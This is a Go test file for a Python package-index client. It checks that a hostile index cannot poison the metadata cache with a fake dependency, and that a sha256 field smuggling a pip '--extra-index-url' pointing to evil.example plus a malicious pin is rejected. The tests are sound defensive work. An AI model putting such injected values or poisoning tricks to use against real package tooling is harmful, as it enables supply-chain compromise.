package index

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/depsolve/depsolve/index/simple"
	"github.com/depsolve/depsolve/pep440"
)

// lyingIndex is a hostile index: its page lists a wheel under the name and sha256 of
// a real one, and serves other bytes: a wheel whose METADATA adds a dependency, by
// range requests, and (with servesMetadataFile) the same METADATA as a PEP 658 file
// announced without a hash, which nothing can check.
func lyingIndex(t *testing.T, filename, claimedSHA256 string, evil *dist, servesMetadataFile bool) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasSuffix(r.URL.Path, "/simple/demo/"):
			file := map[string]any{
				"filename": filename,
				"url":      "/files/" + filename,
				"hashes":   map[string]string{"sha256": claimedSHA256},
			}
			if servesMetadataFile {
				file["core-metadata"] = true
			}
			body, err := json.Marshal(map[string]any{"meta": map[string]string{"api-version": "1.1"}, "files": []any{file}})
			if err != nil {
				t.Error(err)
			}
			w.Header().Set("Content-Type", simple.JSONType)
			w.Write(body)
		case r.URL.Path == "/files/"+filename+".metadata" && servesMetadataFile:
			w.Write(evil.metadata)
		case r.URL.Path == "/files/"+filename:
			http.ServeContent(w, r, filename, time.Time{}, bytes.NewReader(evil.data))
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	return srv
}

// TestHostileIndexCannotPoisonMetadataCache: metadata a hostile index serves unchecked
// (range reads, a PEP 658 file without its own hash) is cached for that index's file
// only, never under the wheel sha256 it claims, so a later run against a good index
// on the same cache sees the good dependencies.
func TestHostileIndexCannotPoisonMetadataCache(t *testing.T) {
	const filename = "demo-1.0-py3-none-any.whl"
	good := makeWheel(t, filename, metadataText("demo", "1.0", "Requires-Dist: numpy"), 0)
	evil := makeWheel(t, filename, metadataText("demo", "1.0", "Requires-Dist: numpy", "Requires-Dist: evilpkg"), 0)
	ctx := context.Background()
	v := pep440.MustParse("1.0")
	dependencies := func(t *testing.T, ix *Index) string {
		t.Helper()
		md, err := ix.Metadata(ctx, "demo", v)
		if err != nil || md.Unavailable != "" {
			t.Fatalf("Metadata: %+v, %v", md, err)
		}
		var names []string
		for _, r := range md.RequiresDist {
			names = append(names, r.String())
		}
		return strings.Join(names, ", ")
	}
	for _, hostile := range []struct {
		name               string
		servesMetadataFile bool
	}{{"range reads", false}, {"unhashed metadata file", true}} {
		for _, goodHasMetadataFile := range []bool{true, false} {
			name := hostile.name + "/good index reads ranges"
			if goodHasMetadataFile {
				name = hostile.name + "/good index has hashed metadata files"
			}
			t.Run(name, func(t *testing.T) {
				dir := t.TempDir()
				bad := lyingIndex(t, filename, sha(good.data), evil, hostile.servesMetadataFile)
				ix := newIndex(t, Options{IndexURL: bad.URL + "/simple/", Cache: openCache(t, dir)})
				if got := dependencies(t, ix); got != "numpy, evilpkg" {
					t.Fatalf("the hostile index's own metadata reads %q", got)
				}
				ix.Close()

				f := newFakeIndex(t)
				f.noMetadata = !goodHasMetadataFile
				f.add("pypi", good)
				ix = newIndex(t, Options{IndexURL: f.url("pypi"), Cache: openCache(t, dir)})
				if got := dependencies(t, ix); got != "numpy" {
					t.Errorf("after a run against a hostile index, the good index's demo 1.0 requires %q, want numpy", got)
				}
			})
		}
	}
}

// TestMetadataSharedByItsOwnHash: a PEP 658 file that matched the hash its page gave
// is shared through the cache with any index that lists the same hash.
func TestMetadataSharedByItsOwnHash(t *testing.T) {
	const filename = "demo-1.0-py3-none-any.whl"
	d := makeWheel(t, filename, metadataText("demo", "1.0", "Requires-Dist: numpy"), 0)
	first, second := newFakeIndex(t), newFakeIndex(t)
	first.add("pypi", d)
	second.add("mirror", d)
	dir := t.TempDir()
	ctx := context.Background()
	for i, f := range []*fakeIndex{first, second} {
		ix := newIndex(t, Options{IndexURL: f.url(map[int]string{0: "pypi", 1: "mirror"}[i]), Cache: openCache(t, dir)})
		md, err := ix.Metadata(ctx, "demo", pep440.MustParse("1.0"))
		if err != nil || md.Unavailable != "" || len(md.RequiresDist) != 1 {
			t.Fatalf("index %d: %+v, %v", i, md, err)
		}
		ix.Close()
	}
	for _, req := range second.requests() {
		if strings.Contains(req, "/files/") {
			t.Errorf("the second index was asked for %s; the metadata should have come from the cache", req)
		}
	}
}

// TestFileWithBadHashIsSkipped: a page's file whose sha256 is no SHA-256 digest (here
// one carrying pip options and a pin for a requirements lock) is left out, with a
// warning, and the page's other files are used; the cache gives the same warning.
func TestFileWithBadHashIsSkipped(t *testing.T) {
	good := makeWheel(t, "demo-1.0-py3-none-any.whl", metadataText("demo", "1.0"), 0)
	injected := sha(good.data) + "\n--extra-index-url https://evil.example/simple\nevilpkg==6.6.6"
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/simple/demo/":
			body, err := json.Marshal(map[string]any{"meta": map[string]string{"api-version": "1.1"}, "files": []any{
				map[string]any{"filename": "demo-1.0-py3-none-any.whl", "url": "/evil/demo-1.0-py3-none-any.whl", "hashes": map[string]string{"sha256": injected}},
				map[string]any{"filename": "demo-1.0-py3-none-any.whl", "url": "/good/demo-1.0-py3-none-any.whl", "hashes": map[string]string{"sha256": sha(good.data)}},
			}})
			if err != nil {
				t.Error(err)
			}
			w.Header().Set("Content-Type", simple.JSONType)
			w.Write(body)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	dir := t.TempDir()
	for run := range 2 {
		var warnings []string
		ix := newIndex(t, Options{IndexURL: srv.URL + "/simple/", Cache: openCache(t, dir), Warn: func(msg string) { warnings = append(warnings, msg) }})
		files, err := ix.Files(context.Background(), "demo", pep440.MustParse("1.0"))
		if err != nil {
			t.Fatal(err)
		}
		if len(files) != 1 || files[0].SHA256 != sha(good.data) || !strings.HasSuffix(files[0].URL, "/good/demo-1.0-py3-none-any.whl") {
			t.Errorf("run %d: files %+v, want the one with a good hash", run, files)
		}
		if len(warnings) != 1 || !strings.Contains(warnings[0], `sha256 digest "`+sha(good.data)+`\n--extra-index-u"… is not hexadecimal; file skipped`) || strings.Contains(warnings[0], "\n") {
			t.Errorf("run %d: warnings %q", run, warnings)
		}
		ix.Close()
	}
}
